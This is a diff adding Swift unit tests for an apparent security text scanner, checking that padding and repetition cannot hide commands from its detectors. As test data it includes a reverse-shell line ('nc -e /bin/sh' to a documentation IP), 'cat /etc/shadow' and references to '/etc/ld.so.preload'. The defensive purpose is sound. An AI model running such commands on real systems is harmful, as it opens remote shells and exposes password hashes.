@@ -57,6 +57,86 @@ import Testing
     #expect(found.first?.host == "198.51.100.9")
   }
 
+  @Test(arguments: ["wget\\&", "x", "%26nc\0id_ecdsa$6$", "'a' \"b\" ", String(repeating: "padding ", count: 30)])
+  func whatOnlyRepeatsIsTakenOut(unit: String) {
+    let text = String(repeating: unit, count: 100_000 / unit.utf8.count)
+    let short = (text + "; nc -e /bin/sh 198.51.100.9 4242; " + text).withView { Repeats.removed(from: $0) } ?? []
+    #expect(short.count < 20_000)
+    short.withView { view in
+      #expect(view.contains("; nc -e /bin/sh 198.51.100.9 4242; "))
+      #expect(view.contains("\0") == unit.utf8.contains(0))
+    }
+  }
+
+  @Test func nothingIsTakenOutOfWhatDiffers() {
+    let text = (0..<4000).map { "line \($0) of many;" }.joined(separator: "\n")
+    #expect(text.withView { Repeats.removed(from: $0) } == nil)
+    #expect("aaaa".withView { Repeats.removed(from: $0) } == nil)
+  }
+
+  /// Padding does not push a command out of view.
+  @Test func aCommandBehindPaddingIsSeen() {
+    let text = String(repeating: "# nothing to see\n", count: 5000) + "nc -e /bin/sh 198.51.100.9 4242"
+    let found = text.withView { TextDetectors.scan($0, .command) }
+    #expect(found.contains { $0.host == "198.51.100.9" && $0.range == 0..<text.utf8.count })
+    let shadow = String(repeating: " ", count: 40_000) + "cat /etc/shadow"
+    #expect(shadow.withView { TextDetectors.scan($0, .command) }.contains { $0.rule == "behaviour.password-hashes" })
+  }
+
+  @Test func theSieveNeverDeniesWhatIsThere() {
+    let text = (0..<600).map { "word\($0) /etc/ld.so.preload" }.joined(separator: " ")
+    text.withView { view in
+      let sieve = TextSieve(view)
+      for literal: StaticString in ["/etc/ld.so.preload", "word599", "wo", "d0 /", ""] {
+        #expect(sieve.mayHold(literal))
+      }
+      #expect(!sieve.mayHold("crontab -l"))
+    }
+  }
+
+  @Test func validTextIsToldAsTheStringTypeTellsIt() {
+    var state: UInt64 = 9
+    for _ in 0..<20_000 {
+      var bytes: [UInt8] = []
+      for _ in 0..<4 {
+        state = state &* 6_364_136_223_846_793_005 &+ 1
+        let edges: [UInt8] = [
+          0x41, 0x7F, 0x80, 0x8F, 0x90, 0x9F, 0xA0, 0xBF, 0xC1, 0xC2, 0xDF, 0xE0, 0xED, 0xEF, 0xF0, 0xF4, 0xF5,
+        ]
+        bytes.append(edges[Int(state >> 33) % edges.count])
+      }
+      #expect(bytes.withView { Base64.isUTF8($0) } == (String(validating: bytes, as: UTF8.self) != nil))
+    }
+  }
+
+  @Test func runsOfDigitsAreThoseOfASlowLook() {
+    var state: UInt64 = 4
+    let pieces = ["A", "bc", "0123456789", "=", " ", "-_", "=="]
+    for _ in 0..<500 {
+      var text = ""
+      for _ in 0..<40 {
+        state = state &* 6_364_136_223_846_793_005 &+ 1
+        text += pieces[Int(state >> 33) % pieces.count]
+      }
+      text.withView { view in
+        var slow: [Range<Int>] = []
+        var place = 0
+        while place < view.count {
+          let start = place
+          while place < view.count, Base64.isDigit(view[place]) { place += 1 }
+          let digits = place
+          guard digits - start >= 12 else {
+            place += 1
+            continue
+          }
+          while place < view.count, place - digits < 2, view[place] == 0x3D { place += 1 }
+          slow.append(start..<place)
+        }
+        #expect(Base64.runs(in: view, minimum: 12) == slow)
+      }
+    }
+  }
+
   @Test func wordsAreFoundWhereTheyStandFirst() {
     let finder = WordFinder(["net.", "net.Dial", "connect(", "`", "con"])
     let numbers = finder.numbers(["net.Dial", "con", "`", "nothing"])
